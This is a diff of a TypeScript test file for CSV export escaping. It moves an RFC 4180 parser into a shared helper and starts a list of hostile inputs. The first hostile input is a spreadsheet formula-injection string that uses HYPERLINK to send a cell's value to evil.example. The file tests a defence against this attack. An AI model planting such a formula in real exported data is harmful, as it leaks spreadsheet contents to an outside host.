@@ -1,7 +1,7 @@
 /**
  * Both CSV writers (an answer's table, a SQL result) against hostile text —
  * a shared link's shape name, a pasted GeoJSON name, a dataset's notice, a
- * SQL cell — read back with an RFC 4180 parser written here: no cell a
+ * SQL cell — read back with an RFC 4180 parser (test/helpers/csv-rows.ts): no cell a
  * spreadsheet would run as a formula, and every data row as wide as its
  * header.
  */
@@ -9,39 +9,7 @@ import { describe, expect, it } from 'vitest';
 import { CSV_BOM, csvComment, csvField } from '../../src/contract/csv.ts';
 import { sqlResultCsv } from '../../src/sql/sql-csv.ts';
 import { toCsv } from '../../src/ui/query-model.ts';
-
-/** RFC 4180: rows of cells; quoted cells may hold commas, quotes ("") and line breaks; CR LF, LF or lone CR end a row. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        cell += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"' && cell === '') quoted = true;
-    else if (c === ',') {
-      row.push(cell);
-      cell = '';
-    } else if (c === '\r' || c === '\n') {
-      if (c === '\r' && text[i + 1] === '\n') i++;
-      row.push(cell);
-      rows.push(row);
-      row = [];
-      cell = '';
-    } else cell += c;
-  }
-  if (cell !== '' || row.length) {
-    row.push(cell);
-    rows.push(row);
-  }
-  return rows;
-}
+import { parseCsv } from '../helpers/csv-rows.ts';
 
 const HOSTILE = [
   'Block 7\r=HYPERLINK("http://evil.example/?"&A5),',
